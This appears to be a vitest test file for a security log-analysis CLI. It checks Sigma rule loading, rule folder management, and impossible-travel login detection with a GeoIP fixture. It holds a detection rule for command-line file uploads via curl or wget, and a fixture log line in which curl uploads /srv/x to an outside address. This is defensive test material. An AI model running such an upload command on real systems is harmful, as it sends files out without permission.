import { mkdir, mkdtemp, readFile, rm, writeFile } from "node:fs/promises";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { fileURLToPath } from "node:url";
import { afterAll, beforeAll, expect, test } from "vitest";
import { runCli } from "../support/run-cli.ts";

const NOW = "2026-03-10T00:00:00Z";
const RULE = `title: Upload of a file from the command line
id: 3b0a2f0e-5d7a-4a50-9a52-000000000001
author: Kim Example
level: high
tags: [attack.exfiltration, attack.t1048]
falsepositives: [Backups by script]
logsource: { product: linux, category: process_creation }
detection:
  tool: { Image|endswith: [/curl, /wget] }
  how: { CommandLine|contains: ["--upload-file", "--post-file"] }
  condition: tool and how
`;
const WINDOWS = `title: For Windows
logsource: { product: windows }
detection: { k: [x], condition: k }
`;
const LOG = [
  "Mar  4 09:12:31 gate1 sudo:  kim : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/curl --upload-file /srv/x http://192.0.2.9/",
  "Mar  4 09:12:33 gate1 sudo:  kim : TTY=pts/1 ; PWD=/ ; USER=root ; COMMAND=/usr/bin/curl http://192.0.2.9/",
  "Mar  4 09:12:35 gate1 sshd[7]: Server listening on 0.0.0.0 port 22.",
];

let folder = "";
let rules = "";
let env: Record<string, string> = {};
beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), "deepsec-cli-rules-"));
  env = { DEEPSEC_CONFIG: join(folder, "deepsec.yaml"), COLUMNS: "200" };
  rules = join(folder, "rules");
  await mkdir(rules);
  await writeFile(join(rules, "upload.yml"), RULE);
  await writeFile(join(rules, "windows.yml"), WINDOWS);
  await writeFile(join(folder, "auth.log"), `${LOG.join("\n")}\n`);
  await writeFile(join(folder, "deepsec.yaml"), "# my settings\ntimeZone: UTC\n");
});
afterAll(() => rm(folder, { recursive: true, force: true }));

const login = (time: string, address: string): string =>
  `2026-03-04T${time}Z gate1 sshd[7]: Accepted publickey for kim from ${address} port 4022 ssh2\n`;
const inFolder = (name: string) => join(folder, name);

test("rules are tested, on logs too, and those that cannot be used are named with the reason", async () => {
  const all = await runCli(["rules", "test", rules, inFolder("auth.log"), "--now", NOW], { env });
  expect(all.code).toBe(1);
  expect(all.stdout).toContain(
    "ok      HIGH    sigma  3b0a2f0e-5d7a-4a50-9a52-000000000001  Upload of a file",
  );
  expect(all.stdout).toContain(`1 event: ${inFolder("auth.log")}:1\n`);
  expect(all.stdout).toContain(
    `unusable  ${inFolder("rules/windows.yml")}: For Windows: the log source windows is not read`,
  );
  expect(all.stdout).toContain("1 rule can be used, 1 cannot");
  expect((await runCli(["rules", "test", inFolder("rules/upload.yml")], { env })).code).toBe(0);
});

test("an added folder is used by events, outliers and analyze, with author and level; removed, it is not", async () => {
  const added = await runCli(["rules", "add", rules], { env });
  expect(added.code).toBe(0);
  expect(added.stdout).toContain("Added 1 rule of ");
  expect(await readFile(inFolder("deepsec.yaml"), "utf8")).toBe(
    `# my settings\ntimeZone: UTC\nrules:\n  - ${rules}\n`,
  );
  expect((await runCli(["rules", "add", rules], { env })).stderr).toContain("names");

  const events = (await runCli(["events", "--now", NOW, inFolder("auth.log")], { env })).stdout
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line) as { suspicious: boolean; rules: { id: string }[] });
  const ids = events.map((event) => event.rules.map(({ id }) => id));
  expect(ids[0]).toContain("3b0a2f0e-5d7a-4a50-9a52-000000000001");
  expect(ids.slice(1)).toEqual([[], []]);
  expect(events[0]?.suspicious).toBe(true);

  const outliers = await runCli(["outliers", "--jsonl", "--now", NOW, inFolder("auth.log")], { env });
  const finding = outliers.stdout
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line) as { rule?: string })
    .find(({ rule }) => rule?.startsWith("3b0a2f0e"));
  expect(finding).toMatchObject({
    severity: "HIGH",
    title: "Upload of a file from the command line",
    lines: [1],
    techniques: ["T1048"],
    source: "sigma",
    level: "high",
    author: "Kim Example",
    tags: ["attack.exfiltration", "attack.t1048"],
    falsePositives: ["Backups by script"],
  });
  const { stdout } = await runCli(["analyze", "--now", NOW, inFolder("auth.log")], { env });
  expect(stdout).toContain(
    "Sigma rule 3b0a2f0e-5d7a-4a50-9a52-000000000001 by Kim Example, level high; harmless: Backups by script",
  );

  const list = JSON.parse((await runCli(["rules", "list", "--json"], { env })).stdout) as {
    rules: { id: string; source: string }[];
    problems: { reason: string }[];
  };
  expect(list.rules.filter(({ source }) => source === "sigma")).toHaveLength(1);
  expect(list.problems.map(({ reason }) => reason)).toEqual(["the log source windows is not read"]);

  expect((await runCli(["rules", "remove", rules], { env })).code).toBe(0);
  expect(await readFile(inFolder("deepsec.yaml"), "utf8")).toBe("# my settings\ntimeZone: UTC\n");
  expect((await runCli(["rules", "remove", rules], { env })).code).toBe(2);
});

test("a folder without a rule that can be used is not added", async () => {
  const { code, stdout, stderr } = await runCli(["rules", "add", inFolder("rules/windows.yml")], { env });
  expect(code).toBe(2);
  expect(stdout).toContain("the log source windows is not read");
  expect(stderr).toContain("has no rule that can be used");
});

test("what is exported can be tested", async () => {
  const exported = inFolder("own.yml");
  await writeFile(exported, (await runCli(["rules", "export"], { env })).stdout);
  const { code, stdout } = await runCli(["rules", "test", exported], { env });
  expect(stdout).toMatch(/\n\d{2} rules can be used, 0 cannot\n$/);
  expect(code).toBe(0);
});

test("a GeoIP file tells of a login that nobody can have flown to, and one that is none is refused", async () => {
  // Berlin, and two hours later Tokyo, as packages/rules/src/geo-fixture.py has them.
  await writeFile(
    inFolder("logins.log"),
    login("09:00:00", "203.0.113.9") + login("11:00:00", "198.51.100.20"),
  );
  const geo = fileURLToPath(new URL("../../packages/rules/src/geo-fixture.mmdb", import.meta.url));
  const outliers = (...flags: readonly string[]) =>
    runCli(["outliers", "--jsonl", "--now", NOW, ...flags, inFolder("logins.log")], { env });
  expect((await outliers()).stdout).not.toContain("login-from-two-places");
  const finding = (await outliers("--geo", geo)).stdout
    .trim()
    .split("\n")
    .map((line) => JSON.parse(line) as { rule?: string })
    .find(({ rule }) => rule === "login-from-two-places");
  expect(finding).toMatchObject({
    severity: "MEDIUM",
    lines: [2],
    reason: "user kim from 198.51.100.20 (JP) 120 min after 203.0.113.9 (DE): 8,917 km, 4,459 km/h",
  });
  const { code, stderr } = await outliers("--geo", inFolder("auth.log"));
  expect(code).toBe(2);
  expect(stderr).toContain("cannot be used as a GeoIP file");
});
